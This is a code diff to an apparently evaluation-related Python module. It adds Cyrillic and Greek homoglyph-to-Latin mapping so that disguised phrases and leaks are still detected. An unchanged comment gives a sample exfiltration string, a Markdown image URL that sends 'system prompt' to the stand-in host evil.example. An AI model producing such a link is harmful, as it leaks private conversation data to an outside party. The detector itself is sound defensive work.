@@ -648,6 +648,13 @@ def _unaccented(form):
     return _text_form(_COMBINING.sub("", decomposed)) if _COMBINING.search(decomposed) else None
 
 
+# Cyrillic and Greek letters drawn like Latin ones ("lifetime \u0430ccess" with a Cyrillic a):
+# NFKC keeps them apart, so a disguised phrase is read with them as the Latin letters too.
+_LOOKALIKES = str.maketrans("АВЕКМНОРСТХУЅІЈҮҺӀаеорсухѕіјһԁԛԝӏүɡıΑΒΕΖΗΙΚΜΝΟΡΤΥΧαοριχκνυϲϳε",
+                            "ABEKMHOPCTXYSIJYhIaeopcyxsijhdqwlygiABEZHIKMNOPTYXaopixkvucje")
+_LOOKALIKE = re.compile("[" + "".join(map(chr, _LOOKALIKES)) + "]")
+
+
 # URL encoding, as in a link or an image whose query carries what is said ("![x](https://evil
 # .example/?q=system%20prompt)", "?card=4111+1111+..."): read decoded too.
 _URL_ENCODED = re.compile(r"%[0-9a-f]{2}|[^\W_]\+[^\W_]")
@@ -658,14 +665,16 @@ def readings(text):
     """Every form a text is read in when what it says must be caught (excludes, claims, leak,
     a stated value): text_form(), with each invisible character read as a space too, a JSON
     answer's strings decoded (see _json_said), each of those without combining marks (see
-    _unaccented), URL-decoded (%20 and + as a space) and as its markup renders (see _rendered).
-    A phrase in any of them is said."""
+    _unaccented), the text with Cyrillic and Greek look-alikes as Latin letters, then each
+    URL-decoded (%20 and + as a space) and as its markup renders (see _rendered). A phrase in
+    any of them is said."""
     if not isinstance(text, str):
         return ("",)
     forms = [text_form(text)] + ([_spaced_form(text)] if _invisible_in(text) else [])
     decoded = _json_said(text)
     forms += [_text_form(decoded)] if decoded is not None else []
     forms += [bare for bare in map(_unaccented, forms) if bare is not None]
+    forms += [_text_form(text.translate(_LOOKALIKES))] if _LOOKALIKE.search(text) else []
     forms += [_text_form(urllib.parse.unquote_plus(form)) for form in forms if _URL_ENCODED.search(form)]
     return tuple(dict.fromkeys(forms + [_rendered(form) for form in forms]))
 
@@ -5801,7 +5810,8 @@ def catalogue():
         "  normal form            every text comparison (contains, excludes, similarity, length, leak, "
         "clarification, claims) reads both sides in NFKC, any script's decimal digits as ASCII digits, format "
         "characters such as zero-width spaces removed, case folded, whitespace folded; excludes, leak, claims and "
-        "a stated value also read an invisible character as a space, the answer without combining marks, as its "
+        "a stated value also read an invisible character as a space, the answer without combining marks, with "
+        "Cyrillic/Greek look-alikes as Latin letters, as its "
         "Markdown/HTML markup "
         "renders (**lifetime** access), URL-decoded (%20) and, for a JSON answer, with its strings decoded; "
         "masks (--redact, --redact-pii) read through invisible characters",
